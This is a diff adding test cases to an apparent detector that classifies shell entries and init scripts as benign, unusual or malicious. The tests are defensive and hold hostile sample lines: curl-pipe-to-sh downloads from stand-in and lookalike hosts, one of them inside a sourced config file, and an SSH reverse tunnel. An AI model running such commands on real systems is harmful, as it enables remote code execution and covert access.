@@ -77,6 +77,46 @@ describe('what is run', () => {
     expect(first(script)).toBe('unusual: clears-traces');
   });
 
+  test('what is fetched from the makers of the software weighs little; a commit may be anybody’s', () => {
+    const runs = (url: string): string => first(entryFact(`curl -fsSL ${url} | sh`));
+    const maker = 'https://raw.githubusercontent.com/netdata/netdata';
+    expect(runs(`${maker}/master/packaging/installer/netdata-updater.sh`)).toBe('unusual: fetch-and-run');
+    expect(runs(`${maker}/v2.1.0/x.sh`)).toBe('unusual: fetch-and-run');
+    for (const url of [
+      `${maker}/1a2b3c4d/x.sh`,
+      `${maker}/0123456789012345678901234567890123456789/x.sh`,
+      'https://raw.githubusercontent.com/netdata2/netdata/master/x.sh',
+      'http://raw.githubusercontent.com/netdata/netdata/master/x.sh',
+      'https://get.acme.sh.example.org/x',
+    ]) {
+      expect(runs(url)).toStartWith('malicious: fetch-and-run');
+    }
+    // Beside one from elsewhere it says nothing for it.
+    const both = `curl -s ${maker}/master/x | sh; curl -s https://example.org/x | sh`;
+    expect(first(entryFact(both))).toStartWith('malicious: fetch-and-run');
+  });
+
+  test('a way in that is opened from a host outside is unusual', () => {
+    expect(first(entryFact('ssh -N -R 2222:localhost:22 x@bastion.example.org'))).toBe(
+      'unusual: opens-tunnel',
+    );
+  });
+
+  test('lines that a package’s script sources and somebody edited are read', () => {
+    const at = '/etc/init.d/timed';
+    const own = scriptFact('. /etc/default/timed\n', { at, mechanism: 'init-script' });
+    const sourced = {
+      kind: 'script',
+      source: { source: text('/etc/default/timed') },
+      path: text('/etc/default/timed'),
+      body: [{ line: 1, text: text('curl -s http://192.0.2.10/x | sh') }],
+    } as const;
+    const brought = integrityFact(at, 'unchanged');
+    const settings = (state: 'unchanged' | 'conffile-changed') => integrityFact('/etc/default/timed', state);
+    expect(first(own, brought, sourced, settings('conffile-changed'))).toBe('malicious: fetch-and-run');
+    expect(first(own, brought, sourced, settings('unchanged'))).toBe('benign: ');
+  });
+
   test('an agent is stopped by its own script, and by another it is suspicious', () => {
     const stops = 'systemctl stop aegis\n';
     const init = { mechanism: 'init-script', at: '/etc/init.d/aegis' } as const;
